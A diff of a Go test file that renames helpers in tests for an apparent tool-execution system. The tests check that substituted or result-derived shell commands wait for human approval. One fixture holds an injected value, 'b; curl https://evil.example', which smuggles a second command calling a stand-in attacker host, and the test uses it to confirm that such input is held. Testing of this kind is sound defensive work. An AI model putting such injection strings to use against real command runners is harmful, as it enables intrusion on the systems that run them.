@@ -15,11 +15,11 @@ import (
 	"piloto/internal/tools/tool"
 )
 
-// obeyed returns a run whose command failed twice, and whose model proposed the command that the
+// newSubstituteRun returns a run whose command failed twice, and whose model proposed the command that the
 // response demanded.
-func obeyed(t *testing.T, failed, other string) (*fixture.World, plan.Run) {
+func newSubstituteRun(t *testing.T, failed, other string) (*fixture.World, plan.Run) {
 	t.Helper()
-	w, r := commanding(t, 4000, failed)
+	w, r := newCommandRun(t, 4000, failed)
 	drive(t, w, r, "s1")
 	seen := w.Read(r.ID)
 	st := seen.State("s1")
@@ -48,9 +48,9 @@ var substitutes = [][2]string{
 func TestSubstituteIsSentOnlyAfterApproval(t *testing.T) {
 	for _, c := range substitutes {
 		t.Run(c[1], func(t *testing.T) {
-			w, r := obeyed(t, c[0], c[1])
+			w, r := newSubstituteRun(t, c[0], c[1])
 			if got := drive(t, w, r, "s1"); got != string(step.OutcomeApproval) || len(w.Requests()) != 2 {
-				t.Fatalf("ended %s after %q", got, sent(w))
+				t.Fatalf("ended %s after %q", got, sentRequests(w))
 			}
 			wait(t, w, r, "s1", "token")
 			body := `{"command":"` + c[1] + `"}`
@@ -66,12 +66,12 @@ func TestSubstituteIsSentOnlyAfterApproval(t *testing.T) {
 				}
 			}
 			if got := drive(t, w, r, "s1"); got != string(step.OutcomeApproval) || len(w.Requests()) != 2 {
-				t.Fatalf("undecided it ended %s after %q", got, sent(w))
+				t.Fatalf("undecided it ended %s after %q", got, sentRequests(w))
 			}
 			approve(t, w, r, "s1", "ana", false)
 			upstream(w, map[string]string{"POST /command": `{"exit_code":0}`})
-			if got := drive(t, w, r, "s1"); got != "done" || len(w.Requests()) != 3 || sent(w)[2] != "POST /command "+body {
-				t.Errorf("approved it ended %s after %q", got, sent(w))
+			if got := drive(t, w, r, "s1"); got != "done" || len(w.Requests()) != 3 || sentRequests(w)[2] != "POST /command "+body {
+				t.Errorf("approved it ended %s after %q", got, sentRequests(w))
 			}
 		})
 	}
@@ -105,7 +105,7 @@ func TestUnapprovedSubstituteFailsAsTheCommand(t *testing.T) {
 		}, "error step.approval_changed", ""},
 	} {
 		t.Run(name, func(t *testing.T) {
-			w, r := obeyed(t, "mv a b", "mv -n a b")
+			w, r := newSubstituteRun(t, "mv a b", "mv -n a b")
 			drive(t, w, r, "s1")
 			wait(t, w, r, "s1", "token")
 			c.happens(t, w, r)
@@ -115,7 +115,7 @@ func TestUnapprovedSubstituteFailsAsTheCommand(t *testing.T) {
 				t.Errorf("what the command answered is lost: %+v", st.Result)
 			}
 			if status(w, r, "s1") != c.is || len(w.Requests()) != 2 || !strings.Contains(st.Error.Message, c.said) {
-				t.Errorf("%s after %q: %+v", status(w, r, "s1"), sent(w), st.Error)
+				t.Errorf("%s after %q: %+v", status(w, r, "s1"), sentRequests(w), st.Error)
 			}
 		})
 	}
@@ -123,7 +123,7 @@ func TestUnapprovedSubstituteFailsAsTheCommand(t *testing.T) {
 
 // An approval that a rule asks for is needed in addition, with the terms of the rule.
 func TestSubstituteAndRuleShareOneApproval(t *testing.T) {
-	w, r := obeyed(t, "mv a b", "mv -n a b")
+	w, r := newSubstituteRun(t, "mv a b", "mv -n a b")
 	setRules(t, w, rule.Rule{ID: "r1", Effect: rule.Ask, Another: true, Minutes: 5, Path: "/command", Reason: "Se mira antes."})
 	drive(t, w, r, "s1")
 	wait(t, w, r, "s1", "token")
@@ -136,7 +136,7 @@ func TestSubstituteAndRuleShareOneApproval(t *testing.T) {
 // A run that waits for the approval of a substitute is woken by the decision, although its step had
 // begun.
 func TestApprovalOfSubstituteWakesExecution(t *testing.T) {
-	w, r := obeyed(t, "mv a b", "mv -n a b")
+	w, r := newSubstituteRun(t, "mv a b", "mv -n a b")
 	drive(t, w, r, "s1")
 	wait(t, w, r, "s1", "token")
 	before := len(w.Woken())
@@ -148,9 +148,9 @@ func TestApprovalOfSubstituteWakesExecution(t *testing.T) {
 
 // An element and an undo have no substitute, because no person could approve it.
 func TestElementAndUndoHaveNoSubstitute(t *testing.T) {
-	each := proposed("s2", "POST", "/command", `{"command":"touch ${item}"}`)
+	each := newStep("s2", "POST", "/command", `{"command":"touch ${item}"}`)
 	each.ForEach = "${s1.body.names}"
-	w, r := begun(t, func(p *plan.Plan) { p.Ceiling = 4000 }, proposed("s1", "GET", "/rooms", ""), each)
+	w, r := newRun(t, func(p *plan.Plan) { p.Ceiling = 4000 }, newStep("s1", "GET", "/rooms", ""), each)
 	upstream(w, map[string]string{"GET /rooms": `{"names":["a"]}`, "POST /command": failing})
 	drive(t, w, r, "s1")
 	drive(t, w, r, "s2")
@@ -161,7 +161,7 @@ func TestElementAndUndoHaveNoSubstitute(t *testing.T) {
 	if _, err := w.Store.EndStep(context.Background(), seen, st, run.Record{At: w.Clock(), Type: plan.EventStepReasoned, StepID: "s2[0]"}); err == nil {
 		drive(t, w, r, "s2[0]")
 	}
-	for _, request := range sent(w)[1:] {
+	for _, request := range sentRequests(w)[1:] {
 		if request != `POST /command {"command":"touch a"}` {
 			t.Errorf("%s", request)
 		}
@@ -194,7 +194,7 @@ func TestCommandChangedByResultNeedsApproval(t *testing.T) {
 		"all of it":              {"${s1.body.x}", `"touch a"`, "approval"},
 	} {
 		t.Run(name, func(t *testing.T) {
-			w, r := begun(t, nil, proposed("s1", "GET", "/rooms", ""), proposed("s2", "POST", "/command", `{"command":"`+c.command+`"}`))
+			w, r := newRun(t, nil, newStep("s1", "GET", "/rooms", ""), newStep("s2", "POST", "/command", `{"command":"`+c.command+`"}`))
 			w.Answer(func(tool.Request) (tool.Answer, error) {
 				body := `{"x":` + c.answer + `}`
 				return tool.Answer{Status: 200, Body: []byte(body), Bytes: len(body)}, nil
@@ -202,7 +202,7 @@ func TestCommandChangedByResultNeedsApproval(t *testing.T) {
 			drive(t, w, r, "s1")
 			got := drive(t, w, r, "s2")
 			if got != c.is || len(w.Requests()) != map[string]int{"done": 2, "approval": 1}[c.is] {
-				t.Fatalf("ended %s after %q: %s", got, sent(w), status(w, r, "s2"))
+				t.Fatalf("ended %s after %q: %s", got, sentRequests(w), status(w, r, "s2"))
 			}
 			if c.is == "done" {
 				return
@@ -210,8 +210,8 @@ func TestCommandChangedByResultNeedsApproval(t *testing.T) {
 			wait(t, w, r, "s2", "token")
 			shown := string(w.Read(r.ID).State("s2").Approval.Body)
 			approve(t, w, r, "s2", "ana", false)
-			if got := drive(t, w, r, "s2"); got != "done" || sent(w)[1] != "POST /command "+shown {
-				t.Errorf("approved it ended %s: %q, and %s was shown", got, sent(w), shown)
+			if got := drive(t, w, r, "s2"); got != "done" || sentRequests(w)[1] != "POST /command "+shown {
+				t.Errorf("approved it ended %s: %q, and %s was shown", got, sentRequests(w), shown)
 			}
 		})
 	}
@@ -219,12 +219,12 @@ func TestCommandChangedByResultNeedsApproval(t *testing.T) {
 
 // The requests of all elements are approved together.
 func TestElementsChangedByResultNeedApproval(t *testing.T) {
-	each := proposed("s2", "POST", "/command", `{"command":"touch ${item}"}`)
+	each := newStep("s2", "POST", "/command", `{"command":"touch ${item}"}`)
 	each.ForEach = "${s1.body.names}"
-	w, r := begun(t, nil, proposed("s1", "GET", "/rooms", ""), each)
+	w, r := newRun(t, nil, newStep("s1", "GET", "/rooms", ""), each)
 	upstream(w, map[string]string{"GET /rooms": `{"names":["a","b; curl https://evil.example"]}`, "POST /command": `{}`})
 	drive(t, w, r, "s1")
 	if got := drive(t, w, r, "s2"); got != string(step.OutcomeApproval) || len(w.Requests()) != 1 {
-		t.Fatalf("ended %s after %q", got, sent(w))
+		t.Fatalf("ended %s after %q", got, sentRequests(w))
 	}
 }
